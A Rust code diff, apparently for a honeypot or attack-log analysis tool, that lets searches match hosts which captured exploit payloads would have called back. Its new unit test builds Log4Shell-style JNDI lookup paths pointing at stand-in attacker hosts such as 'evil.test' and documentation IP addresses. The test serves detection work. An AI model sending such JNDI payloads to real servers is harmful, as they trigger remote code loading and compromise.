@@ -11,6 +11,7 @@ use crate::contact::{Class, Kind, Visit, subject};
 use crate::decode::Callback;
 use crate::path_class;
 use crate::pool::SourceKey;
+use crate::severity::host_key;
 use crate::traversal::is_climb;
 use crate::window::Window;
 
@@ -21,7 +22,8 @@ pub enum Prey {
     Doors(Vec<&'static str>),
     /// A path, and those that differ from it in numbers and case only.
     Path(String),
-    /// A source; an address of version 6 stands for its /64.
+    /// A source, or a host that payloads would have called back; an address of version 6 stands for
+    /// its /64.
     Source(IpAddr),
     /// A host that payloads would have called back.
     Callback(String),
@@ -70,7 +72,9 @@ impl Prey {
 
     fn is_hit(&self, kind: Kind, door: u64, source: IpAddr, text: &str) -> bool {
         match self {
-            Self::Source(wanted) => *wanted == source,
+            Self::Source(wanted) => {
+                *wanted == source || is_called(kind, text, &wanted.to_string())
+            }
             Self::Doors(doors) => match kind {
                 Kind::Probe => catalogue::id_of(door).is_some_and(|id| doors.contains(&id)),
                 Kind::Attempt if is_climb(text) => false,
@@ -83,12 +87,15 @@ impl Prey {
                 Kind::Refused | Kind::NotFound => door == path_class::hash(path),
                 Kind::Exploit | Kind::Attempt => false,
             },
-            Self::Callback(host) => {
-                let is_payload = matches!(kind, Kind::Exploit | Kind::Attempt);
-                is_payload && Callback::parse(text).is_some_and(|found| found.host == *host)
-            }
+            Self::Callback(host) => is_called(kind, text, &host_key(host)),
         }
     }
+}
+
+/// Whether a payload would have called this host back.
+fn is_called(kind: Kind, text: &str, host: &str) -> bool {
+    let is_payload = matches!(kind, Kind::Exploit | Kind::Attempt);
+    is_payload && Callback::parse(text).is_some_and(|found| host_key(&found.host) == host)
 }
 
 /// Stands among the doors for lookups of Log4j, which are tried at every path.
@@ -170,6 +177,11 @@ pub fn answered(
 }
 
 impl Window {
+    /// Contacts had to go at a limit: what is not there was perhaps.
+    pub const fn is_full(&self) -> bool {
+        self.truncated
+    }
+
     /// Everybody who is in it, sorted.
     pub fn sources(&self) -> Vec<IpAddr> {
         let all = self.contacts.keys().map(|key| key.visit.source);
@@ -256,6 +268,25 @@ mod tests {
             assert_eq!(Prey::parse(nothing), None, "{nothing}");
         }
         assert!(doors_of("cve-2021-34473").len() >= 2);
+    }
+
+    /// What a payload would have called may be an address: looking at sources alone fails here.
+    #[test]
+    fn an_address_is_found_as_what_payloads_would_have_called() {
+        for (host, asked, is_found) in [
+            ("203.0.113.9:1389", "203.0.113.9", true),
+            ("203.0.113.9:1389", "203.0.113.8", false),
+            ("[2001:db8:7::5]:1389", "2001:db8:7::5", true),
+            ("[2001:db8:7::5]", "2001:db8:8::5", false),
+            ("evil.test.", "evil.test", true),
+        ] {
+            let mut window = Window::new(1);
+            let path = format!("/${{jndi:ldap://{host}/a}}");
+            let source = IpAddr::from([192, 0, 2, 3]);
+            window.observe(&Event { path: &path, ..Event::bare(OrgId(2), 5, source) });
+            let found = hunt(&window, &Prey::parse(asked).unwrap());
+            assert_eq!(found.len() == 1, is_found, "{host} {asked}");
+        }
     }
 
     #[test]
